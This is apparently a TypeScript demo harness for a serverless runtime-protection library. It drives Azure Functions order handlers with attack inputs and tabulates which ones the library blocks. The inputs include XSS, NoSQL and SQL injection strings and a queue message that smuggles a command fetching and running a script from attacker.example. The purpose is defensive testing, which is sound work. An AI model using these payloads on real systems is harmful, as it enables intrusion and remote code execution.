/**
 * Azure Functions: the handlers of azure-app.ts (the functions of examples/azure-functions), called
 * with real `HttpRequest` and `InvocationContext` objects from @azure/functions, built as the Node.js
 * worker builds them (Core Tools cannot run offline: it needs the Functions host
 * and its extension bundle). The HTTP order goes through the output binding onto the `orders` queue,
 * and the queue function then consumes that very message, and a poisoned one.
 *
 * The app logs its security events the default way, one JSON line on stdout (Application Insights
 * collects them in Azure); the demo reads them from there to fill the table.
 */
import { HttpRequest, InvocationContext, type HttpResponseInit, type InvocationContextInit } from '@azure/functions';
import { createOrder, fulfilOrder, ordersQueue, searchOrders } from './azure-app';
import { primary, ruleOf, short, whereOf, type FindingLike, type Row } from './table';

const BASE = 'http://localhost:7071';

interface EventLine {
  type: string;
  action?: string;
  findings?: FindingLike[];
}

/** Runs `fn`, keeping the security-event lines it writes to stdout (everything else passes through). */
async function withEvents<T>(fn: () => Promise<T>): Promise<{ value?: T; error?: unknown; events: EventLine[] }> {
  const events: EventLine[] = [];
  const write = process.stdout.write;
  process.stdout.write = ((chunk: string | Uint8Array, ...rest: unknown[]): boolean => {
    const s = typeof chunk === 'string' ? chunk : Buffer.from(chunk).toString('utf8');
    if (s.startsWith('{') && s.includes('"type":"serverless-rasp"')) {
      try {
        events.push(JSON.parse(s) as EventLine);
        return true;
      } catch {
        // not one whole line: let it through
      }
    }
    return (write as (...a: unknown[]) => boolean).call(process.stdout, chunk, ...rest);
  }) as typeof process.stdout.write;
  try {
    return { value: await fn(), events };
  } catch (error) {
    return { error, events };
  } finally {
    process.stdout.write = write;
  }
}

let seq = 0;
function context(functionName: string, trigger: Record<string, unknown> & { type: string; name: string }, extra: Partial<InvocationContextInit> = {}): { ctx: InvocationContext; logs: string[] } {
  const logs: string[] = [];
  const ctx = new InvocationContext({
    invocationId: `5f0c2d9e-1a2b-4c3d-8e4f-${String(++seq).padStart(12, '0')}`,
    functionName,
    logHandler: (_level, ...args) => logs.push(args.map(String).join(' ')),
    ...extra,
    options: { trigger, extraInputs: [], extraOutputs: extra.options?.extraOutputs ?? [] },
  });
  return { ctx, logs };
}

const httpTrigger = (methods: string[]) => ({ type: 'httpTrigger', name: 'request', methods, route: 'orders', authLevel: 'anonymous' });
const queueTrigger = { type: 'queueTrigger', name: 'queueItem', queueName: 'orders', connection: 'AzureWebJobsStorage' };

const ORDER = {
  customer: { name: "Ann O'Neil", email: 'ann.oneil@example.com' },
  items: [
    { sku: 'TSHIRT-42', qty: 2 },
    { sku: 'MUG-7', qty: 1 },
  ],
  note: 'Leave it at the door, please; ring twice.',
};

function httpRow(trigger: string, input: string, res: HttpResponseInit | undefined, error: unknown, events: EventLine[]): Row {
  const f = primary(events[0]?.findings);
  const status = res?.status ?? 500;
  return {
    provider: 'Azure',
    trigger,
    input: short(input),
    verdict: error !== undefined ? `error: ${(error as Error).message}` : status === 403 ? 'BLOCKED 403' : status === 400 ? 'REJECTED 400' : `allowed ${status}`,
    rule: ruleOf(f),
    where: whereOf(f),
  };
}

export async function runAzure(rows: Row[]): Promise<void> {
  // POST /api/orders: validated, then queued through the output binding.
  let queued: Record<string, unknown> | undefined;
  const create = async (input: string, body: unknown): Promise<void> => {
    const { ctx } = context('createOrder', httpTrigger(['POST']), { options: { extraOutputs: [ordersQueue] } });
    const request = new HttpRequest({
      method: 'POST',
      url: `${BASE}/api/orders`,
      headers: { 'content-type': 'application/json', 'x-forwarded-for': '203.0.113.9' },
      body: { string: JSON.stringify(body) },
    });
    const r = await withEvents(() => createOrder(request, ctx));
    queued ??= ctx.extraOutputs.get(ordersQueue) as Record<string, unknown> | undefined;
    rows.push(httpRow('HTTP body', input, r.value, r.error, r.events));
  };
  await create('POST /api/orders (valid order)', ORDER);
  await create('POST /api/orders note: <svg onload=alert(document.domain)>', { ...ORDER, note: '<svg onload=alert(document.domain)>' });
  await create('POST /api/orders customer.name: {"$ne":null}', { ...ORDER, customer: { name: { $ne: null }, email: 'x@example.com' } });

  // GET /api/orders?q=
  const search = async (q: string): Promise<void> => {
    const { ctx } = context('searchOrders', httpTrigger(['GET']));
    const request = new HttpRequest({ method: 'GET', url: `${BASE}/api/orders?q=${encodeURIComponent(q)}&page=2` });
    const r = await withEvents(() => searchOrders(request, ctx));
    rows.push(httpRow('HTTP query', `GET /api/orders?q=${q}`, r.value, r.error, r.events));
  };
  await search('blue mug');
  await search("mug' OR 1=1 -- ");

  // Storage queue `orders`: the message createOrder queued, then a poisoned one.
  const consume = async (input: string, message: unknown): Promise<void> => {
    const { ctx, logs } = context('fulfilOrder', queueTrigger, { triggerMetadata: { id: `msg-${seq}`, dequeueCount: 1, queueTrigger: JSON.stringify(message) } });
    const r = await withEvents(() => fulfilOrder(message, ctx));
    const f = primary(r.events[0]?.findings);
    const err = r.error as { code?: string } | undefined;
    rows.push({
      provider: 'Azure',
      trigger: 'Storage queue',
      input: short(input),
      verdict:
        err === undefined
          ? logs.some((l) => l.includes('order fulfilled'))
            ? 'processed'
            : 'not processed'
          : err.code === 'RASP_ERR_BLOCKED'
            ? 'BLOCKED (throw → poison)'
            : `error: ${(r.error as Error).message}`,
      rule: ruleOf(f),
      where: whereOf(f),
    });
  };
  if (queued === undefined) throw new Error('createOrder queued nothing for the valid order');
  await consume('the order createOrder queued', queued);
  await consume('note: ; curl http://attacker.example/x | sh', { ...queued, note: '; curl http://attacker.example/x | sh' });
}
